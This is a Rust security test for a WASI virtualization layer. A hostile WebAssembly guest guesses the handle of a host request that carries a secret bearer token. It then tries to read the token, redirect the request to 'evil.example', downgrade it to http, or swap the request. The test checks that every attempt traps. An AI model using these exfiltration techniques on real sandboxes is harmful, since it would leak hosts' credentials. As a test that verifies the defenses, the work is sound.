//! A guest that guesses the handle of the request which has headers from the host's environment.
//! The guest's memory is watched: nothing that is planted may come into it.

use anyhow::{Context, Result, ensure};
use std::collections::BTreeMap;
use wasi_virt::{DenyMode, HeaderValue, Http, HttpRules, HttpTarget, Policy};
use wasi_virt_tests::engine;
use wasi_virt_tests::hostile_guest::guest::{Guest, Program, RESULT, TEXT};
use wasi_virt_tests::hostile_guest::world::p2::{self, http as world};
use wasi_virt_tests::network::Network;
use wasi_virt_tests::servers::Servers;

const FIELDS: &str = "wasi:http/types#[constructor]fields";
const REQUEST: &str = "wasi:http/types#[constructor]outgoing-request";
const AUTHORITY: &str = "wasi:http/types#[method]outgoing-request.set-authority";
const SCHEME: &str = "wasi:http/types#[method]outgoing-request.set-scheme";
const METHOD: &str = "wasi:http/types#[method]outgoing-request.set-method";
const PATH: &str = "wasi:http/types#[method]outgoing-request.set-path-with-query";
const BODY: &str = "wasi:http/types#[method]outgoing-request.body";
const HEADERS: &str = "wasi:http/types#[method]outgoing-request.headers";
const DROP: &str = "wasi:http/types#[resource-drop]outgoing-request";
const HANDLE: &str = "wasi:http/outgoing-handler#handle";
const ENTRIES: &str = "wasi:http/types#[method]fields.entries";

/// What the host is asked for where all is as it should be.
const HONEST: &str = "GET https://a.example/v1 (authorization: Bearer PLANTED-ENV)";

/// The numbers that are guessed. The host counts them from 1.
const GUESSED: std::ops::Range<u64> = 1..12;

fn policy() -> Policy {
    let token = HeaderValue::new("HOST_SECRET").prefix("Bearer ");
    let target = HttpTarget::new("GET https://a.example/v1").header("authorization", token);
    let mut rules = HttpRules::new();
    rules.allow = vec![
        target.into(),
        "*://evil.example".into(),
        "https://a.example/open".into(),
    ];
    Policy::default().with(|changed| {
        changed.http = Http::Rules(rules);
        changed.deny_mode = DenyMode::Error;
    })
}

/// A guest with a request whose body it has, and its host.
struct Running {
    guest: Guest,
    network: Network,
    request: u64,
}

/// The functions that take a text: whether there is one, and where it lies.
fn some(at: u64, text: &str) -> [u64; 3] {
    [1, at, text.len() as u64]
}

fn start(program: &Program, servers: &Servers) -> Result<Running> {
    let network = Network::new(&BTreeMap::new(), servers);
    let mut guest = program.start()?;
    guest.meet(&network);
    let fields = guest.must(FIELDS, &[])?;
    let request = guest.must(REQUEST, &[fields])?;
    for (set, text) in [(AUTHORITY, "a.example"), (PATH, "/v1")] {
        guest.put(TEXT, text.as_bytes());
        let [is_some, at, len] = some(TEXT, text);
        ensure!(guest.must(set, &[request, is_some, at, len])? == 0, "{set}");
    }
    guest.must(BODY, &[request, RESULT])?;
    ensure!(guest.read(RESULT, 1) == [0], "no body");
    Ok(Running {
        guest,
        network,
        request,
    })
}

impl Running {
    /// Sends a request without options, unless that traps.
    fn send(&mut self, request: u64) -> Result<()> {
        self.guest.call(HANDLE, &[request, 0, 0, RESULT])?;
        Ok(())
    }
}

/// What a guest does with the number that it guesses, and whether it goes on.
type Attack = fn(&mut Running, u64) -> Result<bool>;

fn set(running: &mut Running, name: &str, request: u64, text: &str) -> Result<bool> {
    running.guest.put(TEXT, text.as_bytes());
    let [is_some, at, len] = some(TEXT, text);
    Ok(!running
        .guest
        .call(name, &[request, is_some, at, len])?
        .is_trap())
}

const ATTACKS: [(&str, Attack); 9] = [
    ("reads its headers", |running, guessed| {
        let called = running.guest.call(HEADERS, &[guessed])?;
        if called.is_trap() {
            return Ok(false);
        }
        let fields = running.guest.must(HEADERS, &[guessed])?;
        // What is planted would come into the guest's memory here.
        Ok(!running.guest.call(ENTRIES, &[fields, RESULT])?.is_trap())
    }),
    ("sends it elsewhere", |running, guessed| {
        set(running, AUTHORITY, guessed, "evil.example")
    }),
    ("sends it over http", |running, guessed| {
        let called = running.guest.call(SCHEME, &[guessed, 1, 0, 0, 0])?;
        Ok(!called.is_trap())
    }),
    ("sends it by another method", |running, guessed| {
        let called = running.guest.call(METHOD, &[guessed, 7, 0, 0])?;
        Ok(!called.is_trap())
    }),
    ("sends it to another path", |running, guessed| {
        set(running, PATH, guessed, "/open")
    }),
    ("takes its body", |running, guessed| {
        Ok(!running.guest.call(BODY, &[guessed, RESULT])?.is_trap())
    }),
    ("sends it twice", |running, guessed| {
        let called = running.guest.call(HANDLE, &[guessed, 0, 0, RESULT])?;
        Ok(!called.is_trap())
    }),
    ("drops it", |running, guessed| {
        Ok(!running.guest.call(DROP, &[guessed])?.is_trap())
    }),
    ("puts another in its place", |running, guessed| {
        if running.guest.call(DROP, &[guessed])?.is_trap() {
            return Ok(false);
        }
        let fields = running.guest.must(FIELDS, &[])?;
        let other = running.guest.must(REQUEST, &[fields])?;
        set(running, AUTHORITY, other, "nowhere.example")
    }),
];

#[test]
fn the_request_with_headers_is_nobodys() -> Result<()> {
    let world = world()?;
    let output = wasi_virt::virtualize(&world.component, &policy(), &[])?;
    let ruled = engine::assemble(&output, &world.component, &[])?;
    let program = Program::new(&ruled, world, &[])?;
    let servers = Servers::start()?;
    let mut honest = start(&program, &servers)?;
    let request = honest.request;
    honest.send(request)?;
    ensure!(
        honest.network.asked() == [HONEST],
        "{:?}",
        honest.network.asked()
    );
    for (name, attack) in ATTACKS {
        let (mut trapped, mut sent) = (0, 0);
        for guessed in GUESSED {
            let context = || format!("{name}, {guessed}");
            let mut running = start(&program, &servers)?;
            if attack(&mut running, guessed).with_context(context)? {
                let request = running.request;
                running.send(request).with_context(context)?;
            } else {
                trapped += 1;
            }
            for asked in running.network.asked() {
                let is_planted = asked.contains("PLANTED");
                ensure!(!is_planted || asked == HONEST, "{}: {asked}", context());
                ensure!(!asked.contains("nowhere.example"), "{}: {asked}", context());
                sent += u64::from(is_planted);
            }
            ensure!(sent <= 1 + guessed, "{}: sent twice", context());
        }
        // All numbers but that of the guest's own request.
        ensure!(trapped + 1 == GUESSED.count(), "{name}: {trapped} traps");
    }
    Ok(())
}

/// What the artifact has no value for, or could not keep from others, is an error.
#[test]
fn programs_that_cannot_have_headers() -> Result<()> {
    let reasons = [
        "has headers for `wasi:http/outgoing-handler@0.2.12#handle`, but the component does not \
         import `wasi:cli/environment`",
        "`test:relay/relay@0.1.0#pass` takes an outgoing request, and the component could hand \
         over one that the adapter hides",
    ];
    for (world, reason) in p2::http_unsafe()?.iter().zip(reasons) {
        let made = wasi_virt::virtualize(&world.component, &policy(), &[]);
        let error = made.err().context("no error")?.to_string();
        ensure!(error.contains(reason), "{error}");
    }
    Ok(())
}
